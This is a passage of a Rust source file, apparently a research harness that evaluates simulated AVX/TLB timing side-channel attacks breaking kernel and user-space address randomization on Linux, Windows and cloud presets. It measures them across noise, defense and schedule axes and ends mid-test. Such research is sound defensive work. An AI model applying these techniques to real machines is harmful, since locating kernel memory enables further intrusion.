        profile: &CpuProfile,
        config: CampaignConfig,
        outcomes: Vec<TrialOutcome>,
        trials: u64,
    ) -> CampaignRow {
        let mut accuracy = Trials::new();
        let (mut probing, mut total) = (0.0f64, 0.0f64);
        let (mut probes, mut addresses) = (0u64, 0u64);
        for outcome in &outcomes {
            probing += outcome.probing_seconds;
            total += outcome.total_seconds;
            probes += outcome.probes;
            addresses += outcome.addresses;
            accuracy.successes += outcome.accuracy.successes;
            accuracy.total += outcome.accuracy.total;
        }
        CampaignRow {
            // The §IV-H cloud presets pin their own host CPUs, so that
            // row is labeled after the presets, not the probing profile.
            cpu: if self == Scenario::Cloud {
                "Cloud presets (EC2/GCE/Azure)".to_string()
            } else {
                profile.model.to_string()
            },
            target: self.target(),
            noise: config.noise,
            sampling: if self.honors_sampling() {
                config.sampling.name()
            } else {
                Sampling::Fixed.name()
            },
            calibrator: config.calibrator.name(),
            observables: config.observables.name(),
            defense: config.defense.name(),
            schedule: config.schedule.name(),
            probing_seconds: probing / trials as f64,
            total_seconds: total / trials as f64,
            trials,
            probes,
            probes_per_address: if addresses == 0 {
                0.0
            } else {
                probes as f64 / addresses as f64
            },
            accuracy,
        }
    }
}

impl fmt::Display for Scenario {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.target())
    }
}

/// A scenario × profile × noise × defense × schedule campaign matrix.
#[derive(Clone, Debug)]
pub struct Campaign {
    /// CPU profiles to attack on.
    pub profiles: Vec<CpuProfile>,
    /// Scenarios to run.
    pub scenarios: Vec<Scenario>,
    /// Noise environments to run each cell under.
    pub noises: Vec<NoiseProfile>,
    /// Victim-side defenses to run each cell against.
    pub defenses: Vec<DefenseKind>,
    /// Event schedules to run each cell's victims under.
    pub schedules: Vec<ScheduleKind>,
    /// Trial parameters.
    pub config: CampaignConfig,
}

impl Campaign {
    /// A campaign over an explicit matrix (single noise environment:
    /// the config's).
    #[must_use]
    pub fn new(
        profiles: Vec<CpuProfile>,
        scenarios: Vec<Scenario>,
        config: CampaignConfig,
    ) -> Self {
        Self {
            profiles,
            scenarios,
            noises: vec![config.noise],
            defenses: vec![config.defense],
            schedules: vec![config.schedule],
            config,
        }
    }

    /// Replaces the noise axis of the matrix.
    #[must_use]
    pub fn with_noises(mut self, noises: Vec<NoiseProfile>) -> Self {
        assert!(!noises.is_empty(), "noise axis must be non-empty");
        self.noises = noises;
        self
    }

    /// Replaces the defense axis of the matrix.
    #[must_use]
    pub fn with_defenses(mut self, defenses: Vec<DefenseKind>) -> Self {
        assert!(!defenses.is_empty(), "defense axis must be non-empty");
        self.defenses = defenses;
        self
    }

    /// Replaces the schedule axis of the matrix.
    #[must_use]
    pub fn with_schedules(mut self, schedules: Vec<ScheduleKind>) -> Self {
        assert!(!schedules.is_empty(), "schedule axis must be non-empty");
        self.schedules = schedules;
        self
    }

    /// The full 4-axis attack × CPU × noise × defense grid:
    /// [`Campaign::noise_grid`] repeated against every
    /// [`DefenseKind`].
    #[must_use]
    pub fn defense_grid(config: CampaignConfig) -> Self {
        Self::noise_grid(config).with_defenses(DefenseKind::ALL.to_vec())
    }

    /// The attack × CPU × noise × schedule grid:
    /// [`Campaign::noise_grid`] repeated against every
    /// [`ScheduleKind`]. Its `schedule=none` rows are bit-equal to
    /// [`Campaign::noise_grid`]'s by invariant 13.
    #[must_use]
    pub fn schedule_grid(config: CampaignConfig) -> Self {
        Self::noise_grid(config).with_schedules(ScheduleKind::ALL.to_vec())
    }

    /// The full paper evaluation: all eight §IV attacks across the two
    /// Intel desktop/mobile parts and the AMD part (each scenario runs
    /// on every profile its probing primitive supports).
    #[must_use]
    pub fn full(config: CampaignConfig) -> Self {
        Self::new(
            vec![
                CpuProfile::alder_lake_i5_12400f(),
                CpuProfile::ice_lake_i7_1065g7(),
                CpuProfile::zen3_ryzen5_5600x(),
            ],
            Scenario::ALL.to_vec(),
            config,
        )
    }

    /// The full attack × CPU × noise grid: [`Campaign::full`] repeated
    /// across every [`NoiseProfile`] preset.
    ///
    /// The whole paper evaluation, one line:
    ///
    /// ```
    /// use avx_channel::attacks::campaign::{Campaign, CampaignConfig};
    ///
    /// let grid = Campaign::noise_grid(CampaignConfig::new(1, 0));
    /// assert_eq!(grid.noises.len(), 4, "quiet/smt/laptop/cloud");
    /// assert_eq!(grid.scenarios.len(), 8, "all §IV attacks");
    /// // `grid.run()` yields 14 rows per noise preset.
    /// ```
    #[must_use]
    pub fn noise_grid(config: CampaignConfig) -> Self {
        Self::full(config).with_noises(NoiseProfile::ALL.to_vec())
    }

    /// Runs every supported noise × defense × schedule × scenario ×
    /// profile cell; rows come back noise-major, then defense-major,
    /// then schedule-major, then scenario-major in the order of
    /// `self.scenarios`.
    ///
    /// Trial layouts depend only on (scenario, seed), so each
    /// scenario's victim systems are built **once** up front
    /// (rayon-parallel) and every (noise, defense, profile) cell runs
    /// against copy-on-write snapshots of that pool — the cells differ
    /// only in the machine they wrap around the snapshot, not in the
    /// layout. Defenses never touch the shared pool either: a defended
    /// trial installs its defense on the trial's own machine, and a
    /// re-randomizing victim re-randomizes its copy-on-write clone
    /// (invariant 12).
    ///
    /// Heavyweight scenarios are bounded to [`Scenario::max_trials`]
    /// trials per cell (call [`Scenario::campaign`] directly for
    /// uncapped paper-scale runs). [`Scenario::Cloud`] runs once per
    /// campaign noise, not once per profile — its presets pin their own
    /// host CPUs, so per-profile repetition would duplicate identical
    /// work.
    #[must_use]
    pub fn run(&self) -> Vec<CampaignRow> {
        // One fixture pool per scenario, shared across the whole grid.
        // Scenarios no profile of this campaign supports produce no
        // rows, so their (expensive) fixtures are never built.
        let pools: Vec<Vec<TrialFixture>> = self
            .scenarios
            .iter()
            .map(|&scenario| {
                if !self.profiles.iter().any(|p| scenario.supported_on(p)) {
                    return Vec::new();
                }
                let trials = self.config.trials.clamp(1, scenario.max_trials());
                (0..trials)
                    .into_par_iter()
                    .map(|i| {
                        scenario.build_fixture(legacy_trial_seed(
                            self.config.seed0,
                            scenario.seed_salt(),
                            i,
                        ))
                    })
                    .collect()
            })
            .collect();

        let mut rows = Vec::new();
        for &noise in &self.noises {
            for &defense in &self.defenses {
                for &schedule in &self.schedules {
                    for (&scenario, pool) in self.scenarios.iter().zip(&pools) {
                        let config = CampaignConfig {
                            trials: pool.len() as u64,
                            noise,
                            defense,
                            schedule,
                            ..self.config
                        };
                        if scenario == Scenario::Cloud {
                            if let Some(profile) =
                                self.profiles.iter().find(|p| scenario.supported_on(p))
                            {
                                rows.push(scenario.campaign_with(profile, config, pool));
                            }
                            continue;
                        }
                        for profile in &self.profiles {
                            if scenario.supported_on(profile) {
                                rows.push(scenario.campaign_with(profile, config, pool));
                            }
                        }
                    }
                }
            }
        }
        rows
    }
}

// ---------------------------------------------------------------------
// Per-scenario trial implementations.

/// The regions a defended Linux victim protects — kernel text plus the
/// module area, matching [`Scenario::defense_regions`].
fn linux_defense_regions() -> [DefenseRegion; 2] {
    [
        DefenseRegion::linux_kernel_text(),
        DefenseRegion::linux_modules(),
    ]
}

/// Machine + calibrated prober over a copy-on-write snapshot of a
/// prebuilt Linux system, running under the campaign's noise
/// environment, defense and event schedule, calibrating with the
/// campaign's estimator. The defense and schedule are installed on the
/// snapshot machine before the first probe (so a re-randomizing victim
/// or churning schedule only ever mutates its clone), and before
/// calibration (the attacker calibrates against the defended,
/// event-driven victim, like on real silicon).
fn linux_prober(
    profile: &CpuProfile,
    sys: &LinuxSystem,
    seed: u64,
    config: CampaignConfig,
) -> (SimProber, avx_os::LinuxTruth, CalibrationFit) {
    let (mut machine, truth) = sys.machine(profile.clone(), machine_seed(seed));
    machine.set_noise_profile(config.noise);
    machine.set_observables(config.observables);
    config
        .defense
        .install(&mut machine, &linux_defense_regions(), seed);
    config.schedule.install(&mut machine, config.noise, seed);
    let mut p = SimProber::new(machine);
    let fit = Threshold::calibrate_with(&mut p, truth.user.calibration, 16, config.calibrator);
    (p, truth, fit)
}

fn seconds(profile_ghz: f64, cycles: u64) -> f64 {
    cycles as f64 / (profile_ghz * 1e9)
}

fn kernel_base_trial(
    profile: &CpuProfile,
    sys: &LinuxSystem,
    seed: u64,
    config: CampaignConfig,
) -> TrialOutcome {
    let (mut p, truth, fit) = linux_prober(profile, sys, seed, config);
    let mut finder = KernelBaseFinder::new(fit.threshold);
    if let Some(sampler) = config.sampler_for(profile, &fit) {
        finder = finder.with_adaptive(sampler);
    }
    if let Some(strategy) = config.sampling.strategy_override() {
        finder = finder.with_strategy(strategy);
    }
    if let Some(recal) = config.recal {
        finder = finder.with_recalibration(recal);
    }
    if let Some(confirm) = config.confirm {
        finder = finder.with_confirmation(confirm);
    }
    let scan = finder.scan(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        probes: p.probes_issued(),
        addresses: KERNEL_SLOTS,
        accuracy,
        confidence: None,
    }
}

fn amd_base_trial(
    profile: &CpuProfile,
    sys: &LinuxSystem,
    seed: u64,
    config: CampaignConfig,
) -> TrialOutcome {
    let (mut machine, truth) = sys.machine(profile.clone(), machine_seed(seed));
    machine.set_noise_profile(config.noise);
    machine.set_observables(config.observables);
    config
        .defense
        .install(&mut machine, &linux_defense_regions(), seed);
    config.schedule.install(&mut machine, config.noise, seed);
    let mut p = SimProber::new(machine);
    let mut finder = AmdKernelBaseFinder::for_default_kernel();
    if let Some(filter) = config.sampling.min_filter() {
        finder = finder.with_early_stop(filter);
    }
    if let Sampling::FixedBudget(n) = config.sampling {
        finder = finder.with_repeats(n.max(1));
    }
    if let Some(recal) = config.recal {
        finder = finder.with_recalibration(recal);
    }
    let scan = finder.scan(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        probes: p.probes_issued(),
        addresses: KERNEL_SLOTS,
        accuracy,
        confidence: None,
    }
}

fn modules_trial(
    profile: &CpuProfile,
    sys: &LinuxSystem,
    seed: u64,
    config: CampaignConfig,
) -> TrialOutcome {
    let (mut p, truth, fit) = linux_prober(profile, sys, seed, config);
    let mut scanner = ModuleScanner::new(fit.threshold);
    if let Some(sampler) = config.sampler_for(profile, &fit) {
        scanner = scanner.with_adaptive(sampler);
    }
    if let Some(strategy) = config.sampling.strategy_override() {
        scanner = scanner.with_strategy(strategy);
    }
    if let Some(recal) = config.recal {
        scanner = scanner.with_recalibration(recal);
    }
    if let Some(confirm) = config.confirm {
        scanner = scanner.with_confirmation(confirm);
    }
    let scan = scanner.scan(&mut p);
    let mut accuracy = Trials::new();
    for m in &truth.modules {
        accuracy.record(
            scan.detected
                .iter()
                .any(|d| d.base == m.base && d.size == m.spec.size),
        );
    }
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        probes: p.probes_issued(),
        addresses: MODULE_SLOTS,
        accuracy,
        confidence: None,
    }
}

fn kpti_trial(
    profile: &CpuProfile,
    sys: &LinuxSystem,
    seed: u64,
    config: CampaignConfig,
) -> TrialOutcome {
    let (mut p, truth, fit) = linux_prober(profile, sys, seed, config);
    let mut attack = KptiAttack::new(fit.threshold, KPTI_TRAMPOLINE_OFFSET);
    if let Some(sampler) = config.sampler_for(profile, &fit) {
        attack = attack.with_adaptive(sampler);
    }
    if let Some(strategy) = config.sampling.strategy_override() {
        attack = attack.with_strategy(strategy);
    }
    if let Some(recal) = config.recal {
        attack = attack.with_recalibration(recal);
    }
    if let Some(confirm) = config.confirm {
        attack = attack.with_confirmation(confirm);
    }
    let scan = attack.scan(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        probes: p.probes_issued(),
        addresses: KERNEL_SLOTS,
        accuracy,
        confidence: Some(scan.confidence),
    }
}

/// Spy observation length per behaviour trial (seconds at 1 Hz). Shorter
/// than the paper's 100 s plot window to keep campaign trials cheap.
const BEHAVIOUR_TRIAL_SECONDS: f64 = 30.0;

fn behaviour_trial(
    profile: &CpuProfile,
    sys: &LinuxSystem,
    seed: u64,
    config: CampaignConfig,
) -> TrialOutcome {
    let (mut p, truth, fit) = linux_prober(profile, sys, seed, config);
    let th = fit.threshold;
    let timeline =
        ActivityTimeline::random(Behaviour::BluetoothAudio, BEHAVIOUR_TRIAL_SECONDS, 3, seed);
    let module = truth
        .module(timeline.behaviour.module_name())
        .expect("default module set loads the bluetooth module");
    let (base, pages) = (module.base, module.spec.pages());
    let tlb = TlbAttack::from_threshold(&th);
    let spy = TlbSpy::new(
        SpyConfig {
            duration_s: BEHAVIOUR_TRIAL_SECONDS,
            ..SpyConfig::default()
        },
        tlb,
    );
    let probing_before = p.probing_cycles();
    let total_before = p.total_cycles();
    let trace = spy.monitor(&mut p, base, |p, t| {
        apply_activity(p.machine_mut(), &timeline, base, pages, t);
    });
    let probing = p.probing_cycles() - probing_before;
    let total = p.total_cycles() - total_before;

    let detected = trace.detect_active(tlb.hit_boundary);
    let mut accuracy = Trials::new();
    for (sample, hit) in trace.samples.iter().zip(detected) {
        accuracy.record(hit == timeline.active_at(sample.t));
    }
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), probing),
        total_seconds: seconds(p.clock_ghz(), total),
        // Whole-prober count, calibration included — the same metric
        // every other scenario reports.
        probes: p.probes_issued(),
        addresses: trace.samples.len() as u64,
        accuracy,
        confidence: None,
    }
}

fn userspace_trial(
    profile: &CpuProfile,
    space: &AddressSpace,
    truth: &avx_os::ProcessTruth,
    seed: u64,
    config: CampaignConfig,
) -> TrialOutcome {
    // Copy-on-write snapshot of the prebuilt process image; the
    // attacker's own calibration page is mapped into the snapshot only.
    let mut space = space.clone();
    let own = VirtAddr::new_truncate(0x5400_0000_0000);
    space
        .map(own, PageSize::Size4K, PteFlags::user_ro())
        .expect("calibration page free");
    let mut machine = Machine::new(profile.clone(), space, machine_seed(seed));
    machine.set_noise_profile(config.noise);
    machine.set_observables(config.observables);
    config.schedule.install(&mut machine, config.noise, seed);
    let mut p = SimProber::new(machine);
    let (perm, fit) = PermissionAttack::calibrate_with(&mut p, own, config.calibrator);
    let mut scanner = UserSpaceScanner::new(perm);
    // The permission scanner centers its own hypotheses on the load
    // boundary; only the σ policy and budgets come from the shared
    // sampler selection.
    if let Some(sampler) = config.sampler_for(profile, &fit) {
        scanner = scanner.with_adaptive(sampler.sigma, sampler.config);
    }
    if let Some(strategy) = config.sampling.strategy_override() {
        scanner.permission.strategy = strategy;
    }
    if let Some(confirm) = config.confirm {
        scanner = scanner.with_confirmation(confirm);
    }

    let first = truth.libraries.first().expect("standard set non-empty");
    let last = truth.libraries.last().expect("standard set non-empty");
    let span = last.base.as_u64() + last.signature.span() + 0x10_0000 - first.base.as_u64();

    let probing_before = p.probing_cycles();
    let total_before = p.total_cycles();
    let map = scanner.scan(&mut p, first.base, span / 4096);
    let probing = p.probing_cycles() - probing_before;
    let total = p.total_cycles() - total_before;

    let matches = LibraryMatcher::new(ImageSignature::standard_set()).find_all(&map);
    let mut accuracy = Trials::new();
    for lib in &truth.libraries {
        accuracy.record(
            matches
                .iter()
                .any(|m| m.name == lib.signature.name && m.base == lib.base),
        );
    }
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), probing),
        total_seconds: seconds(p.clock_ghz(), total),
        // Whole-prober count, calibration included — the same metric
        // every other scenario reports.
        probes: p.probes_issued(),
        addresses: span / 4096,
        accuracy,
        confidence: None,
    }
}

fn windows_trial(
    profile: &CpuProfile,
    sys: &WindowsSystem,
    seed: u64,
    config: CampaignConfig,
) -> TrialOutcome {
    let (mut machine, truth) = sys.machine(profile.clone(), machine_seed(seed));
    machine.set_noise_profile(config.noise);
    machine.set_observables(config.observables);
    config
        .defense
        .install(&mut machine, &[DefenseRegion::windows_kernel()], seed);
    config.schedule.install(&mut machine, config.noise, seed);
    let mut p = SimProber::new(machine);
    let fit = Threshold::calibrate_with(&mut p, truth.user_scratch, 16, config.calibrator);
    let mut attack = WindowsKaslrAttack::new(fit.threshold);
    if let Some(sampler) = config.sampler_for(profile, &fit) {
        attack = attack.with_adaptive(sampler);
    }
    if let Some(strategy) = config.sampling.strategy_override() {
        attack = attack.with_strategy(strategy);
    }
    if let Some(recal) = config.recal {
        attack = attack.with_recalibration(recal);
    }
    if let Some(confirm) = config.confirm {
        attack = attack.with_confirmation(confirm);
    }
    let scan = attack.find_kernel_region(&mut p);
    let mut accuracy = Trials::new();
    accuracy.record(scan.base == Some(truth.kernel_base));
    TrialOutcome {
        probing_seconds: seconds(p.clock_ghz(), scan.probing_cycles),
        total_seconds: seconds(p.clock_ghz(), scan.total_cycles),
        probes: p.probes_issued(),
        addresses: scan.candidates,
        accuracy,
        confidence: None,
    }
}

fn cloud_trial(seed: u64, config: CampaignConfig) -> TrialOutcome {
    let mut accuracy = Trials::new();
    let (mut probing, mut total) = (0.0f64, 0.0f64);
    let (mut probes, mut addresses) = (0u64, 0u64);
    for scenario in CloudScenario::all(seed) {
        let report = run_scenario_scheduled(
            &scenario,
            machine_seed(seed),
            config.noise,
            config.sampling,
            config.calibrator,
            config.recal,
            config.observables,
            config.confirm,
            config.defense,
            config.schedule,
        );
        accuracy.record(report.base_correct);
        probing += report.probing_seconds;
        total += report.base_seconds + report.modules_seconds.unwrap_or(0.0);
        probes += report.probes;
        addresses += report.addresses;
    }
    TrialOutcome {
        probing_seconds: probing,
        total_seconds: total,
        probes,
        addresses,
        accuracy,
        confidence: None,
    }
}

// ---------------------------------------------------------------------
// The historical single-scenario entry points, now thin wrappers over
// the engine (kept because benches, the repro binary and downstream
// users call them directly).

/// Runs the Intel kernel-base attack over fresh systems.
#[must_use]
pub fn intel_base_campaign(profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
    Scenario::KernelBase.campaign(profile, config)
}

/// Runs the module detection attack; accuracy is per true module
/// exactly detected (base and size), as in §IV-C.
#[must_use]
pub fn intel_modules_campaign(profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
    Scenario::Modules.campaign(profile, config)
}

/// Runs the AMD level-based base attack over fresh systems.
#[must_use]
pub fn amd_base_campaign(config: CampaignConfig) -> CampaignRow {
    Scenario::AmdKernelBase.campaign(&CpuProfile::zen3_ryzen5_5600x(), config)
}

/// The full Table I: the five paper rows in order (12400F base/modules,
/// 1065G7 base/modules, 5600X base). Module rows cap trials at 20 —
/// each trial probes 16384 slots.
#[must_use]
pub fn table1(config: CampaignConfig) -> Vec<CampaignRow> {
    let module_config = CampaignConfig {
        trials: config.trials.min(Scenario::Modules.max_trials()),
        ..config
    };
    vec![
        intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), config),
        intel_modules_campaign(&CpuProfile::alder_lake_i5_12400f(), module_config),
        intel_base_campaign(&CpuProfile::ice_lake_i7_1065g7(), config),
        intel_modules_campaign(&CpuProfile::ice_lake_i7_1065g7(), module_config),
        amd_base_campaign(config),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> CampaignConfig {
        CampaignConfig::new(6, 77)
    }

    #[test]
    fn intel_base_campaign_reports_sane_numbers() {
        let row = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        assert_eq!(row.accuracy.total, 6);
        assert!(row.accuracy.rate() > 0.8);
        assert!(row.probing_seconds > 0.0);
        assert!(row.total_seconds > row.probing_seconds);
        assert!(row.total_seconds < 0.01, "sub-10ms attack");
    }

    #[test]
    fn module_campaign_counts_per_module() {
        let row =
            intel_modules_campaign(&CpuProfile::ice_lake_i7_1065g7(), CampaignConfig::new(2, 3));
        assert_eq!(row.accuracy.total, 2 * 125);
        assert!(row.accuracy.rate() > 0.95);
    }

    #[test]
    fn amd_campaign_slower_than_intel_desktop() {
        let amd = amd_base_campaign(small());
        let intel = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        assert!(amd.total_seconds > intel.total_seconds);
        assert!(amd.accuracy.rate() > 0.8);
    }

    #[test]
    fn table1_has_five_rows_in_paper_order() {
        let rows = table1(CampaignConfig::new(2, 0));
        assert_eq!(rows.len(), 5);
        assert_eq!(rows[0].target, "Base");
        assert_eq!(rows[1].target, "Modules");
        assert!(rows[4].cpu.contains("5600X"));
        // Display is informative.
        assert!(rows[0].to_string().contains("%"));
    }

    #[test]
    fn every_scenario_succeeds_on_a_supported_profile() {
        let config = CampaignConfig::new(2, 11);
        for scenario in Scenario::ALL {
            let profile = if scenario == Scenario::AmdKernelBase {
                CpuProfile::zen3_ryzen5_5600x()
            } else {
                CpuProfile::alder_lake_i5_12400f()
            };
            let row = scenario.campaign(&profile, config);
            assert!(row.accuracy.total > 0, "{scenario}: no records");
            assert!(
                row.accuracy.rate() > 0.8,
                "{scenario}: accuracy {} too low",
                row.accuracy
            );
            assert!(row.total_seconds >= row.probing_seconds, "{scenario}");
            assert!(row.probing_seconds > 0.0, "{scenario}");
        }
    }

    #[test]
    fn full_campaign_covers_all_scenarios_and_three_profiles() {
        let campaign = Campaign::full(CampaignConfig::new(1, 5));
        let rows = campaign.run();
        // Six Intel-only scenarios run on 2 profiles, AMD base on 1,
        // Cloud once per campaign: 6 × 2 + 1 + 1 rows.
        assert_eq!(rows.len(), 14);
        let cpus: std::collections::HashSet<&str> = rows.iter().map(|r| r.cpu.as_str()).collect();
        assert_eq!(
            cpus.len(),
            4,
            "three probing profiles + the cloud-preset label"
        );
        assert!(cpus.contains("Cloud presets (EC2/GCE/Azure)"));
        assert_eq!(
            rows.iter().filter(|r| r.target == "Cloud").count(),
            1,
            "cloud presets pin their own CPUs, so one row only"
        );
        let targets: std::collections::HashSet<&str> = rows.iter().map(|r| r.target).collect();
        // All eight scenarios appear (Base covers both vendors' rows).
        assert_eq!(targets.len(), 7);
        for row in &rows {
            assert!(row.accuracy.total > 0, "{}: empty row", row.target);
        }
    }

    #[test]
    fn direct_campaign_calls_honor_the_exact_trial_count() {
        // Paper-scale n is the caller's choice: Scenario::campaign must
        // not silently cap (Campaign::run is the capping layer).
        let row = Scenario::Modules.campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            CampaignConfig::new(Scenario::Modules.max_trials() + 2, 9),
        );
        assert_eq!(
            row.accuracy.total,
            (Scenario::Modules.max_trials() + 2) * 125
        );
        let capped = Campaign::new(
            vec![CpuProfile::alder_lake_i5_12400f()],
            vec![Scenario::WindowsKaslr],
            CampaignConfig::new(1000, 9),
        )
        .run();
        assert_eq!(
            capped[0].accuracy.total,
            Scenario::WindowsKaslr.max_trials(),
            "Campaign::run bounds heavyweight scenarios"
        );
    }

    #[test]
    fn unsupported_pairs_are_skipped() {
        assert!(!Scenario::KernelBase.supported_on(&CpuProfile::zen3_ryzen5_5600x()));
        assert!(!Scenario::AmdKernelBase.supported_on(&CpuProfile::alder_lake_i5_12400f()));
        assert!(Scenario::Cloud.supported_on(&CpuProfile::alder_lake_i5_12400f()));
        let campaign = Campaign::new(
            vec![CpuProfile::zen3_ryzen5_5600x()],
            vec![Scenario::KernelBase],
            CampaignConfig::new(1, 0),
        );
        assert!(campaign.run().is_empty());
    }

    #[test]
    fn rows_report_probes_per_address() {
        let row = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        // Fixed second-of-two on 512 slots plus the 17 calibration
        // probes per trial: a little above 2 probes per address.
        assert!(row.probes > 0);
        assert!(
            row.probes_per_address > 2.0 && row.probes_per_address < 2.2,
            "ppa {}",
            row.probes_per_address
        );
        assert_eq!(row.noise, NoiseProfile::Quiet);
        assert_eq!(row.sampling, "fixed");
        assert!(row.to_string().contains("probes/addr"));
    }

    #[test]
    fn adaptive_campaign_keeps_accuracy_and_beats_the_robust_budget() {
        // The acceptance claim: same quiet-profile campaign accuracy as
        // the fixed-repetition (noise-robust) path, ≥2x fewer probes.
        let base = small();
        let fixed = intel_base_campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            base.with_sampling(Sampling::fixed_budget()),
        );
        let adaptive = intel_base_campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            base.with_sampling(Sampling::adaptive()),
        );
        assert_eq!(adaptive.accuracy.rate(), fixed.accuracy.rate());
        assert!(adaptive.accuracy.rate() > 0.8);
        assert!(
            adaptive.probes * 2 <= fixed.probes,
            "adaptive {} vs fixed-budget {}",
            adaptive.probes,
            fixed.probes
        );
        assert_eq!(adaptive.sampling, "adaptive");
        assert_eq!(fixed.sampling, "fixed-budget");
    }

    #[test]
    fn noisy_cell_spends_more_probes_per_address_than_quiet() {
        let base = CampaignConfig::new(6, 19).with_sampling(Sampling::adaptive());
        let quiet = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), base);
        let noisy = intel_base_campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            base.with_noise(NoiseProfile::LaptopDvfs),
        );
        assert!(
            noisy.probes_per_address > quiet.probes_per_address,
            "adaptive engine must buy more evidence in noise: {} vs {}",
            noisy.probes_per_address,
            quiet.probes_per_address
        );
        assert_eq!(noisy.noise, NoiseProfile::LaptopDvfs);
    }

    #[test]
    fn noise_grid_covers_every_preset() {
        let campaign = Campaign::new(
            vec![CpuProfile::alder_lake_i5_12400f()],
            vec![Scenario::KernelBase],
            CampaignConfig::new(1, 3),
        )
        .with_noises(NoiseProfile::ALL.to_vec());
        let rows = campaign.run();
        assert_eq!(rows.len(), NoiseProfile::ALL.len());
        let noises: Vec<NoiseProfile> = rows.iter().map(|r| r.noise).collect();
        assert_eq!(noises, NoiseProfile::ALL.to_vec());
        let grid = Campaign::noise_grid(CampaignConfig::new(1, 3));
        assert_eq!(grid.noises, NoiseProfile::ALL.to_vec());
        assert_eq!(grid.scenarios.len(), 8);
    }

    #[test]
    fn defense_axis_produces_grid_rows_with_ordered_efficacy() {
        let campaign = Campaign::new(
            vec![CpuProfile::alder_lake_i5_12400f()],
            vec![Scenario::KernelBase],
            CampaignConfig::new(4, 5),
        )
        .with_defenses(DefenseKind::ALL.to_vec());
        let rows = campaign.run();
        assert_eq!(rows.len(), DefenseKind::ALL.len());
        let labels: Vec<&str> = rows.iter().map(|r| r.defense).collect();
        assert_eq!(labels, vec!["none", "masked", "rerandomizing"]);
        // Efficacy: the undefended scan works; the masked victim is
        // (near-)immune; the re-randomizing victim turns it into a race.
        assert!(rows[0].accuracy.rate() > 0.9, "{}", rows[0]);
        assert!(
            rows[1].accuracy.rate() < rows[0].accuracy.rate(),
            "mask must cost accuracy: {} vs {}",
            rows[1],
            rows[0]
        );
        assert!(
            rows[2].accuracy.rate() < rows[0].accuracy.rate(),
            "re-randomization must cost accuracy: {} vs {}",
            rows[2],
            rows[0]
        );
    }

    #[test]
    fn defended_rows_tag_their_defense_and_undefended_rows_do_not() {
        let none = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        let masked = intel_base_campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            small().with_defense(DefenseKind::MaskedTranslation),
        );
        assert_eq!(none.defense, "none");
        assert_eq!(masked.defense, "masked");
        assert!(
            !none.to_string().contains("none"),
            "the undefended tag stays the historical 4-part one: {none}"
        );
        assert!(masked.to_string().contains("/masked]"), "{masked}");
    }

    #[test]
    fn defense_grid_is_the_full_four_axis_matrix() {
        let grid = Campaign::defense_grid(CampaignConfig::new(1, 3));
        assert_eq!(grid.noises, NoiseProfile::ALL.to_vec());
        assert_eq!(grid.defenses, DefenseKind::ALL.to_vec());
        assert_eq!(grid.scenarios.len(), 8);
    }

    #[test]
    fn scheduled_rows_tag_their_schedule_and_unscheduled_rows_do_not() {
        let none = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        let burst = intel_base_campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            small().with_schedule(ScheduleKind::CoTenantBurst),
        );
        assert_eq!(none.schedule, "none");
        assert_eq!(burst.schedule, "cotenant-burst");
        assert!(
            !none.to_string().contains("none"),
            "the unscheduled tag stays the historical 4-part one: {none}"
        );
        assert!(burst.to_string().contains("/cotenant-burst]"), "{burst}");
    }

    #[test]
    fn schedule_axis_produces_grid_rows_in_menu_order() {
        let campaign = Campaign::new(
            vec![CpuProfile::alder_lake_i5_12400f()],
            vec![Scenario::KernelBase],
            CampaignConfig::new(3, 7),
        )
        .with_schedules(ScheduleKind::ALL.to_vec());
        let rows = campaign.run();
        assert_eq!(rows.len(), ScheduleKind::ALL.len());
        let labels: Vec<&str> = rows.iter().map(|r| r.schedule).collect();
        assert_eq!(
            labels,
            vec!["none", "dvfs-square", "cotenant-burst", "module-churn"]
        );
        assert!(rows[0].accuracy.rate() > 0.9, "{}", rows[0]);
        for row in &rows {
            assert!(row.accuracy.total > 0, "{row}: empty cell");
        }
    }

    #[test]
    fn schedule_grid_is_the_full_noise_by_schedule_matrix() {
        let grid = Campaign::schedule_grid(CampaignConfig::new(1, 3));
        assert_eq!(grid.noises, NoiseProfile::ALL.to_vec());
        assert_eq!(grid.schedules, ScheduleKind::ALL.to_vec());
        assert_eq!(grid.defenses, vec![DefenseKind::None]);
        assert_eq!(grid.scenarios.len(), 8);
    }

    #[test]
    fn userspace_defended_row_equals_undefended_row() {
        // User-space ASLR is outside the kernel defense menu:
        // Scenario::UserSpace defends nothing, and its rows say so
        // honestly by not moving at all.
        let config = CampaignConfig::new(2, 21);
        let plain = Scenario::UserSpace.campaign(&CpuProfile::alder_lake_i5_12400f(), config);
        let defended = Scenario::UserSpace.campaign(
